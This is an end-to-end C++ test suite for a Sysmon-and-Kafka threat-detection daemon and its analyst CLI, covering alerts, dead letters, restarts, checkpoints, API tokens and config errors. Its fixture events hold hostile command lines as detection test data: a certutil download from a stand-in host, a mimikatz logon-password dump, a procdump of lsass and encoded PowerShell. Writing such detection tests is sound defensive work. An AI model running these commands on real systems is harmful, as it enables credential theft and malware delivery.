// End to end: the vigild binary against a Kafka protocol peer, fed by an independent
// client (kcat), checked through its HTTP API only.

#include <algorithm>

#include "e2e/e2e_support.h"

namespace vigil {
namespace {

using e2e::AlertKey;
using e2e::wait_for;
namespace fs = std::filesystem;
using namespace std::chrono_literals;

constexpr char kSysmon[] = R"("Channel":"Microsoft-Windows-Sysmon/Operational")";

std::string process_event(const std::string& id, const std::string& parent,
                          const std::string& image, const std::string& cmd) {
  return R"({"@timestamp":")" + e2e::now_rfc3339() + R"(","Hostname":"WS-0001",)" + kSysmon +
         R"(,"EventID":1,"test_id":")" + id + R"(","ParentImage":")" + parent + R"(","Image":")" +
         image + R"(","CommandLine":")" + cmd + R"("})";
}
std::string event(const std::string& id, int event_id, const std::string& fields) {
  return R"({"@timestamp":")" + e2e::now_rfc3339() + R"(","Hostname":"WS-0002",)" + kSysmon +
         R"(,"EventID":)" + std::to_string(event_id) + R"(,"test_id":")" + id + R"(",)" + fields +
         "}";
}

// Events crafted for the default rule pack, and the alerts they must give.
std::vector<std::string> crafted_events() {
  const std::string ps = R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe)";
  const std::string cmd = R"(C:\\Windows\\System32\\cmd.exe)";
  return {
      process_event("t1", cmd, ps, "powershell -nop -enc SQBFAFgA"),
      process_event("t2", cmd, R"(C:\\Windows\\System32\\certutil.exe)",
                    "certutil -urlcache -f http://x/a.exe a.exe"),
      process_event("t3", cmd, R"(C:\\Users\\Public\\m.exe)", "m.exe sekurlsa::logonpasswords"),
      process_event("t4", cmd, R"(C:\\Tools\\procdump.exe)", "procdump -ma lsass.exe out.dmp"),
      process_event("t5", R"(C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE)", ps,
                    "powershell -enc AAAA"),
      process_event("t6", cmd, R"(C:\\Windows\\System32\\rundll32.exe)",
                    "rundll32.exe javascript:\\\"..\\\\mshtml\\\""),
      process_event("t7", cmd, R"(C:\\Windows\\System32\\whoami.exe)", "whoami /priv"),
      process_event("t8", R"(C:\\Program Files\\SCCM\\SCCMAgent.exe)",
                    R"(C:\\Windows\\System32\\whoami.exe)", "whoami /priv"),
      event("t9", 3, R"("Image":")" + ps + R"(","DestinationPort":4444,"Initiated":"true")"),
      event(
          "t10", 13,
          R"("TargetObject":"HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"C:\\Users\\Public\\x.exe")"),
      event("t11", 22, R"("QueryName":"abc.ngrok.io")"),
      event(
          "t12", 11,
          R"("Image":"C:\\Windows\\System32\\wscript.exe","TargetFilename":"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs")"),
      event(
          "t13", 11,
          R"("Image":"C:\\Windows\\System32\\msiexec.exe","TargetFilename":"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs")"),
      process_event("t14", cmd, R"(C:\\Windows\\System32\\ipconfig.exe)", "ipconfig /all"),
      event("t15", 3,
            R"("Image":")" + ps +
                R"(","CommandLine":"powershell -enc AAAA")"),  // right fields, wrong logsource
      "{broken json",
      "[\"not an object\"]",
  };
}

std::set<AlertKey> expected_alerts() {
  return {{"b0b45200-2144-447e-a69d-ebce804a3864", "t1"},
          {"600b4d6f-49fb-4e4b-a78d-6352d47d7b7f", "t2"},
          {"4bdfa4d6-11cc-4460-9aee-0cf814659c62", "t3"},
          {"1772ac8f-4450-424c-b772-d9e5ce5ba72c", "t4"},
          {"0f6d99b9-cc13-478f-a882-437e9195ff00", "t5"},
          {"b0b45200-2144-447e-a69d-ebce804a3864", "t5"},
          {"ea9efc16-26ac-40c6-a5c7-b8665849e4f5", "t6"},
          {"1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e", "t7"},
          {"3ca036c5-5e3d-407e-8582-6a5876402de0", "t9"},
          {"4abecf1f-1bdd-428d-b470-698fb17dc78b", "t10"},
          {"4186ec2e-19f6-4b70-b390-bc1e81e5a620", "t11"},
          {"58f89590-ca2e-461c-9ae4-ca62c8d54e27", "t12"}};
}

class VigildTest : public e2e::VigildFixture {};

TEST_F(VigildTest, ExactAlertsFromAnIndependentProducerAcrossARestart) {
  // The broker lives in its own process (vigil dev kafka), as a real one would, so that
  // vigild can be stopped and started while it keeps the data.
  e2e::Broker broker(4);
  ASSERT_FALSE(broker.bootstrap().empty());
  const std::string brokers = broker.bootstrap();

  std::unique_ptr<test::Subprocess> vigild;
  uint16_t port = start(vigild, {"--kafka-brokers", brokers});
  ASSERT_NE(port, 0) << log(1);
  ASSERT_TRUE(
      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
      << log(1);

  kcat_produce(brokers, crafted_events());
  const auto expected = expected_alerts();
  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= expected.size(); }, 30s)) << log(1);
  // Let anything extra (a duplicate, a false positive) arrive before judging.
  std::this_thread::sleep_for(1s);
  auto got = alerts(port);
  EXPECT_EQ(got.size(), expected.size());
  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), expected);

  auto metrics = test::http_get("127.0.0.1", port, "/metrics").body;
  EXPECT_EQ(test::prometheus_sum(metrics, "vigil_events_consumed_total"), 17) << metrics;
  EXPECT_EQ(
      test::prometheus_sum(metrics, "vigil_events_invalid_total", {{"reason", "malformed_json"}}),
      1)
      << metrics;
  EXPECT_EQ(
      test::prometheus_sum(metrics, "vigil_events_invalid_total", {{"reason", "not_an_object"}}), 1)
      << metrics;
  EXPECT_EQ(test::prometheus_sum(metrics, "vigil_dead_letters_total"), 2) << metrics;

  // The alerts topic carries every alert once per id (keyed by it), the dead-letter topic
  // both bad events with their reason and source coordinates.
  std::vector<std::string> published;
  ASSERT_TRUE(wait_for(
      [&] {
        published = kcat_consume(brokers, "vigil.alerts", "%k");
        return std::set<std::string>(published.begin(), published.end()).size() >= expected.size();
      },
      30s))
      << published.size() << "\n"
      << log(1);
  EXPECT_EQ(std::set<std::string>(published.begin(), published.end()).size(), expected.size());
  std::vector<std::string> dead;
  ASSERT_TRUE(wait_for(
      [&] {
        dead = kcat_consume(brokers, "vigil.deadletter", "%h|%s");
        return dead.size() >= 2;
      },
      30s))
      << log(1);
  ASSERT_EQ(dead.size(), 2u);
  std::sort(dead.begin(), dead.end());
  EXPECT_NE(dead[0].find("vigil.reason=malformed_json"), std::string::npos) << dead[0];
  EXPECT_NE(dead[0].find("vigil.source.partition="), std::string::npos) << dead[0];
  EXPECT_NE(dead[0].find("|{broken json"), std::string::npos) << dead[0];
  EXPECT_NE(dead[1].find("vigil.reason=not_an_object"), std::string::npos) << dead[1];
  EXPECT_NE(dead[1].find("vigil.source.topic=vigil.events"), std::string::npos) << dead[1];
  EXPECT_NE(dead[1].find("|[\"not an object\"]"), std::string::npos) << dead[1];

  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);

  // Restart on the same data: nothing is read twice, and new events are detected once.
  port = start(vigild, {"--kafka-brokers", brokers});
  ASSERT_NE(port, 0) << log(2);
  ASSERT_TRUE(
      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
      << log(2);
  kcat_produce(brokers, {process_event("t16", "C:\\\\x.exe",
                                       "C:\\\\Windows\\\\System32\\\\whoami.exe", "whoami /all")});
  auto with_new = expected;
  with_new.insert({"1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e", "t16"});
  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= with_new.size(); }, 30s)) << log(2);
  std::this_thread::sleep_for(1s);
  got = alerts(port);
  EXPECT_EQ(got.size(), with_new.size());
  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), with_new);
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(2);
}

TEST_F(VigildTest, EmbeddedModeShowsSimulatedAlertsWithinThirtySeconds) {
  std::unique_ptr<test::Subprocess> vigild;
  const uint16_t port = start(vigild, {"--simulator-rate", "1000"});
  ASSERT_NE(port, 0) << log(1);
  ASSERT_TRUE(wait_for([&] { return !alerts(port).empty(); }, 30s)) << log(1);
  std::set<std::string> pack;
  for (const auto& [rule, id] : expected_alerts()) pack.insert(rule);
  for (const auto& [rule, id] : alerts(port)) EXPECT_TRUE(pack.count(rule)) << rule;
  EXPECT_EQ(test::http_get("127.0.0.1", port, "/readyz").status, 200);
  // vigild re-executed itself (same pid) with the allocator's tunables in its environment
  // (vigil/core/allocator.h), unless sanitized or told otherwise. (glibc rewrites the
  // variable's text once it has read it, so only its presence is checked.)
#if !defined(__SANITIZE_ADDRESS__)
  if (std::getenv("GLIBC_TUNABLES") == nullptr &&
      std::getenv("VIGIL_ALLOCATOR_TUNING") == nullptr) {
    std::ifstream in("/proc/" + std::to_string(vigild->pid()) + "/environ");
    // Variables as "\0NAME=value\0", the first one included.
    const std::string env_block = '\0' + std::string(std::istreambuf_iterator<char>(in), {});
    using namespace std::string_view_literals;
    EXPECT_NE(env_block.find("\0VIGIL_ALLOCATOR_REEXEC=1\0"sv), std::string::npos);
    EXPECT_NE(env_block.find("\0GLIBC_TUNABLES=glibc.malloc."sv), std::string::npos);
  }
#endif
  vigild->signal(SIGINT);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
}

TEST_F(VigildTest, CheckpointOfARunningInstanceRestoresItsAlertsAndEvents) {
  e2e::Broker broker(2);
  ASSERT_FALSE(broker.bootstrap().empty());
  const std::string brokers = broker.bootstrap();
  const fs::path checkpoints = dir_ / "checkpoints";
  std::unique_ptr<test::Subprocess> vigild;
  uint16_t port =
      start(vigild, {"--kafka-brokers", brokers, "--checkpoint-dir", checkpoints.string()});
  ASSERT_NE(port, 0) << log(1);
  ASSERT_TRUE(
      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
      << log(1);
  kcat_produce(brokers, crafted_events());
  const auto expected = expected_alerts();
  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= expected.size(); }, 30s)) << log(1);

  const std::string server = " --server http://127.0.0.1:" + std::to_string(port);
  // The analyst's CLI: alerts as JSON lines (all pages) and as a table, one alert with its
  // event, a hunt; a wrong token fails with the server's reason.
  {
    const std::string vigil = std::string(VIGIL_CLI_PATH);
    const std::string reader = server + " --token " + kReaderToken;
    std::string out;
    ASSERT_EQ(test::run_command(
                  vigil + " alerts --since 0 --limit 5 --all --json" + reader + " 2>&1", &out),
              0)
        << out;
    std::vector<std::string> lines;
    for (size_t pos = 0, nl; (nl = out.find('\n', pos)) != std::string::npos; pos = nl + 1)
      lines.push_back(out.substr(pos, nl - pos));
    EXPECT_EQ(lines.size(), expected.size()) << out;
    rapidjson::Document first;
    first.Parse(lines.front().c_str());
    ASSERT_FALSE(first.HasParseError()) << lines.front();
    const std::string id = first["id"].GetString();
    EXPECT_FALSE(first.HasMember("event")) << "lists show summaries";
    out.clear();
    ASSERT_EQ(test::run_command(
                  vigil + " alerts --since 0 --limit 1 --json --full" + reader + " 2>&1", &out),
              0)
        << out;
    rapidjson::Document full;
    full.Parse(out.c_str());
    ASSERT_FALSE(full.HasParseError()) << out;
    EXPECT_TRUE(full.HasMember("event")) << out;
    // A bad filter is refused before anything is printed: the error alone, no table header.
    out.clear();
    EXPECT_NE(test::run_command(vigil + " alerts --severity bogus" + reader + " 2>&1", &out), 0);
    EXPECT_EQ(out.find("TIME"), std::string::npos) << out;
    EXPECT_NE(out.find("'severity'"), std::string::npos) << out;
    ASSERT_TRUE(full.HasMember("matched") && full["matched"].IsArray() && !full["matched"].Empty())
        << out;
    // The matched field is a path of the event with its value there.
    const auto& m = full["matched"][0];
    ASSERT_TRUE(m["field"].IsString()) << out;
    const std::string path = m["field"].GetString();
    const rapidjson::Value* v = &full["event"];
    for (size_t pos = 0; v && pos <= path.size();) {
      const size_t dot = std::min(path.find('.', pos), path.size());
      const std::string key = path.substr(pos, dot - pos);
      v = v->IsObject() && v->HasMember(key.c_str()) ? &(*v)[key.c_str()] : nullptr;
      pos = dot + 1;
    }
    ASSERT_NE(v, nullptr) << path << " not in " << out;
    if (v->IsString()) {
      EXPECT_EQ(std::string(v->GetString()), m["value"].GetString());
    }
    out.clear();
    ASSERT_EQ(
        test::run_command(
            vigil + " alerts --rule 1772ac8f-4450-424c-b772-d9e5ce5ba72c" + reader + " 2>&1", &out),
        0)
        << out;
    EXPECT_NE(out.find("LEVEL"), std::string::npos) << out;
    EXPECT_NE(out.find("1 alert(s)"), std::string::npos) << out;
    out.clear();
    ASSERT_EQ(test::run_command(vigil + " alerts show " + id + reader + " 2>&1", &out), 0) << out;
    EXPECT_NE(out.find("\"id\": \"" + id + "\""), std::string::npos) << out;
    EXPECT_NE(out.find("\"matched\": ["), std::string::npos) << out;
    out.clear();
    ASSERT_EQ(
        test::run_command(vigil + " events --since 0 --field test_id=t14" + reader + " 2>&1", &out),
        0)
        << out;
    EXPECT_NE(out.find("1 event(s)"), std::string::npos) << out;
    EXPECT_NE(out.find("vigil.events/"), std::string::npos) << out;
    out.clear();
    ASSERT_EQ(test::run_command(vigil + " events --since 0 --field CommandLine~IPCONFIG --json" +
                                    reader + " 2>&1",
                                &out),
              0)
        << out;
    EXPECT_NE(out.find("ipconfig /all"), std::string::npos) << out;
    EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 1) << out;
    out.clear();
    EXPECT_EQ(test::run_command(vigil + " alerts" + server + " --token wrong-token-0123456789 2>&1",
                                &out),
              1)
        << out;
    EXPECT_NE(out.find("HTTP 401"), std::string::npos) << out;
    out.clear();
    EXPECT_EQ(test::run_command(vigil + " alerts --since yesterday" + reader + " 2>&1", &out), 1)
        << out;
    EXPECT_NE(out.find("'since'"), std::string::npos) << out;
  }

  // Checkpoints with the CLI; a second checkpoint of the same name is refused.
  const std::string cli = std::string(VIGIL_CLI_PATH) + " admin checkpoint nightly" + server +
                          " --token " + kAdminToken;
  std::string out;
  // A reader token may not take checkpoints.
  EXPECT_NE(test::run_command(std::string(VIGIL_CLI_PATH) + " admin checkpoint nightly" + server +
                                  " --token " + kReaderToken + " 2>&1",
                              &out),
            0);
  EXPECT_NE(out.find("403"), std::string::npos) << out;
  out.clear();
  ASSERT_EQ(test::run_command(cli + " 2>&1", &out), 0) << out;
  EXPECT_TRUE(fs::exists(checkpoints / "nightly" / "CURRENT")) << out;
  out.clear();
  EXPECT_NE(test::run_command(cli + " 2>&1", &out), 0);
  EXPECT_NE(out.find("409"), std::string::npos) << out;
  out.clear();
  EXPECT_NE(test::run_command(std::string(VIGIL_CLI_PATH) + " admin checkpoint ../escape" + server +
                                  " --token " + kAdminToken + " 2>&1",
                              &out),
            0);
  EXPECT_NE(out.find("400"), std::string::npos) << out;
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);

  // Restore: a vigild started on the checkpoint serves the same alerts and retained events
  // (consuming an idle topic in another group, so that nothing new arrives).
  ASSERT_TRUE(broker.control("topic vigil.idle 1"));
  port = start(vigild,
               {"--kafka-brokers", brokers, "--topic", "vigil.idle", "--group", "idle",
                "--alerts-topic", "", "--dead-letter-topic", ""},
               "checkpoints/nightly");
  ASSERT_NE(port, 0) << log(2);
  const auto got = alerts(port);
  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), expected);
  const auto hunt = api_get(port, "/api/v1/events?since=0&field=test_id=t14");
  EXPECT_EQ(hunt.status, 200) << hunt.body;
  EXPECT_NE(hunt.body.find("ipconfig /all"), std::string::npos) << hunt.body;
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(2);

  // A data directory that is not a vigil store is refused at start, saying why.
  const fs::path foreign = dir_ / "foreign";
  fs::create_directories(foreign);
  std::ofstream(foreign / "notes.txt") << "not a database\n";
  out.clear();
  EXPECT_NE(test::run_command(std::string(VIGILD_PATH) + " --kafka-brokers " + brokers +
                                  " --data-dir " + foreign.string() + " --listen 127.0.0.1:0 2>&1",
                              &out),
            0);
  EXPECT_NE(out.find("holds no vigil store"), std::string::npos) << out;
}

TEST_F(VigildTest, WithoutConfiguredTokensAnAdminTokenIsMadeOnceAndPrinted) {
  api_tokens_ = false;
  std::unique_ptr<test::Subprocess> vigild;
  uint16_t port = start(vigild, {"--simulator-rate", "0"});
  ASSERT_NE(port, 0) << log(1);
  const fs::path token_file = dir_ / "data" / "api-token";
  ASSERT_TRUE(fs::exists(token_file)) << log(1);
  EXPECT_EQ(fs::status(token_file).permissions() & fs::perms::all,
            fs::perms::owner_read | fs::perms::owner_write);
  std::string token;
  std::ifstream(token_file) >> token;
  ASSERT_EQ(token.size(), 64u);
  // The banner (stdout) shows a curl line that works as printed.
  const auto banner = vigild->wait_for_line("  try: ", 10s);
  ASSERT_TRUE(banner);
  EXPECT_NE(banner->find("curl -s -H 'Authorization: Bearer " + token +
                         "' 'http://127.0.0.1:" + std::to_string(port) + "/api/v1/alerts?limit=5'"),
            std::string::npos)
      << *banner;
  EXPECT_EQ(test::http_get("127.0.0.1", port, "/api/v1/alerts?limit=5").status, 401);
  EXPECT_EQ(test::http_get("127.0.0.1", port, "/api/v1/alerts?limit=5",
                           {{"Authorization", "Bearer " + token}})
                .status,
            200);
  EXPECT_EQ(test::http_get("127.0.0.1", port, "/metrics").status, 200);
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
  // The same token after a restart; the token never appears in the logs (stderr).
  port = start(vigild, {"--simulator-rate", "0"});
  ASSERT_NE(port, 0) << log(2);
  EXPECT_EQ(test::http_get("127.0.0.1", port, "/api/v1/alerts?limit=5",
                           {{"Authorization", "Bearer " + token}})
                .status,
            200);
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(2);
  for (int run : {1, 2}) EXPECT_EQ(log(run).find(token), std::string::npos) << log(run);
}

TEST_F(VigildTest, RefusesBadConfigurationWithAClearMessage) {
  std::string out;
  EXPECT_NE(test::run_command(std::string(VIGILD_PATH) + " --listen nonsense 2>&1", &out), 0);
  EXPECT_NE(out.find("must be host:port"), std::string::npos) << out;
  const fs::path cfg = dir_ / "bad.yml";
  std::ofstream(cfg) << "kafka:\n  brokers: x\nfield21: 1\n";
  out.clear();
  EXPECT_EQ(
      test::run_command(std::string(VIGILD_PATH) + " --config " + cfg.string() + " 2>&1", &out), 2);
  EXPECT_NE(out.find("unknown key 'field21'"), std::string::npos) << out;
  std::ofstream(cfg, std::ios::trunc) << "store:\n  events_bucket: 1050ms\n";
  out.clear();
  EXPECT_EQ(
      test::run_command(std::string(VIGILD_PATH) + " --config " + cfg.string() + " 2>&1", &out), 2);
  EXPECT_NE(out.find("store.events_bucket must be a multiple of 100ms"), std::string::npos) << out;
  out.clear();
  EXPECT_NE(test::run_command(std::string(VIGILD_PATH) + " --rules /nonexistent --data-dir " +
                                  (dir_ / "d").string() + " 2>&1",
                              &out),
            0);
  EXPECT_NE(out.find("cannot read '/nonexistent'"), std::string::npos) << out;
  // Configured rules of which none compiles are refused at first start with the report.
  fs::create_directories(dir_ / "unsupported");
  std::ofstream(dir_ / "unsupported" / "r.yml")
      << "title: t\nid: x\nlogsource: {product: windows, category: process_creation}\n"
         "detection:\n  sel:\n    Image|field21: x\n  condition: sel\n";
  out.clear();
  EXPECT_NE(
      test::run_command(std::string(VIGILD_PATH) + " --rules " + (dir_ / "unsupported").string() +
                            " --data-dir " + (dir_ / "d2").string() + " 2>&1",
                        &out),
      0);
  EXPECT_NE(out.find("unknown modifier 'field21'"), std::string::npos) << out;
}

}  // namespace
}  // namespace vigil
